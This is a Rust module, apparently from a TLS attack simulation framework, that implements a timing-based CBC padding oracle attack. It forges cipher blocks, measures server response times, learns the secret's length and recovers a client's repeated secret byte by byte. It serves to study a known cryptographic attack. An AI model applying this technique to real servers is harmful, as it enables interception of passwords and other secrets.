//! A padding oracle (Vaudenay, "Security flaws induced by CBC padding", 2002), by the time that an answer takes (Canvel,
//! Hiltgen, Vaudenay and Vuagnoux, "Password interception in a SSL/TLS channel", 2003).
//!
//! The client says the same words at the beginning of each connection, as programs that fetch mail do with a password; the
//! keys are others each time. She puts two blocks of hers at the end of its record, `F` and a block `C` of the words:
//!
//! 1. With a guess `g` for the last byte of `C`'s plaintext, and `C'` in front of `C`, the last byte of `F` is
//!    `g xor C' xor 0`: if `g` is right, the padding is one byte of 0, and the server goes on to the MAC, which takes longer.
//! 2. With the last byte known, `F` makes it 1, and the one in front of it is guessed in the same way; and so on.
//! 3. A guess that was right is asked once more: the padding may have been a longer one by chance.
//!
//! First of all the last byte of the padding says how long the words are. The block in which the MAC begins is another one
//! under each key: what the words have there stays shut.

use super::{
    Outcome, blocks::Blocks, found_words, guess::guess, recording::Recording, target::Target,
};
use padlock_tls::{ledger::Value, party::Whose};

/// How many records of noise she sends to see how long an answer takes to wrong padding.
const NOISE: usize = 3;

#[derive(Clone, Debug)]
pub(super) struct PaddingOracle {
    blocks: Blocks,
    /// The record of the secret.
    recorded: Value,
    /// How long the server takes with noise.
    times: Vec<u64>,
    length: Option<usize>,
    known: Vec<u8>,
    /// The end of the next block, as far as it is known.
    end: Vec<u8>,
    rank: usize,
    confirms: bool,
}

impl PaddingOracle {
    pub fn new(recording: &Recording) -> Option<Self> {
        Some(Self {
            blocks: Blocks::of(recording.session()?)?,
            recorded: recording.records(Whose::Client).into_iter().next()?,
            times: vec![],
            length: None,
            known: vec![],
            end: vec![],
            rank: 0,
            confirms: false,
        })
    }

    pub fn step(&mut self, target: &mut Target) -> Option<Outcome> {
        if self.times.len() < NOISE {
            let noise = target.rng().bytes(1).first().copied()?;
            let (time, _) = self.ask(target, None, noise)?;
            self.times.push(time);
            return Some(Outcome::Going);
        }
        let Some(length) = self.length else {
            return self.measure(target);
        };
        if self.known.len() == length {
            return Some(found_words(&self.recorded, self.known.clone()));
        }
        let byte = guess(self.rank)?;
        let at = self.known.len() / self.blocks.length;
        let (time, _) = self.ask(target, Some(at), byte)?;
        if self.settles(time) {
            self.end.insert(0, byte);
        }
        if self.end.len() == self.blocks.length {
            self.known.append(&mut self.end);
        }
        Some(Outcome::Going)
    }

    /// Guesses the last byte of the padding, and with it the length of the words.
    fn measure(&mut self, target: &mut Target) -> Option<Outcome> {
        let byte = u8::try_from(self.rank).ok()?;
        let (time, total) = self.ask(target, None, byte)?;
        if self.settles(time) {
            let around = self.blocks.mac + 1 + usize::from(byte);
            let length = total.checked_sub(around)?;
            if length % self.blocks.length != 0 {
                return Some(Outcome::Failed);
            }
            self.length = Some(length);
        }
        // No padding here is as long as that.
        Some(match self.rank < self.blocks.length {
            true => Outcome::Going,
            false => Outcome::Failed,
        })
    }

    /// Whether a guess is right for the second time; otherwise what to ask next is settled.
    fn settles(&mut self, time: u64) -> bool {
        let is_right = self.times.iter().min().is_some_and(|noise| time > *noise);
        let is_sure = is_right && self.confirms;
        self.confirms = is_right && !is_sure;
        self.rank = match (is_sure, is_right) {
            (true, _) => 0,
            (false, true) => self.rank,
            (false, false) => self.rank + 1,
        };
        is_sure
    }

    /// One connection: how long the server took for a guess of a byte of the block `at`, or of the last one; and how many bytes
    /// the record holds.
    fn ask(&self, target: &mut Target, at: Option<usize>, guess: u8) -> Option<(u64, usize)> {
        let mut connection = target.connect()?;
        let last = connection.last().to_vec();
        let record = target.client_says_secret(&mut connection, &[], &[]).pop()?;
        let mut cut = self.blocks.cut(&record, &last);
        let count = cut.len().checked_sub(1)?;
        let at = at.unwrap_or(count.checked_sub(1)?);
        let (before, sought) = (cut.get(at)?.clone(), cut.get(at + 1)?.clone());
        let plaintext = [&[guess], self.end.as_slice()].concat();
        let padding_length = u8::try_from(self.end.len()).ok()?;
        let mut forged = target.rng().bytes(self.blocks.length);
        let from = self.blocks.length.checked_sub(plaintext.len())?;
        let places = forged.iter_mut().zip(&before).skip(from);
        for ((place, before), byte) in places.zip(&plaintext) {
            *place = before ^ byte ^ padding_length;
        }
        cut.extend([forged, sought]);
        let forged = self.blocks.forge(&record, &cut)?;
        let answer = target.ask_server(&mut connection, forged);
        Some((answer.time, count * self.blocks.length))
    }
}
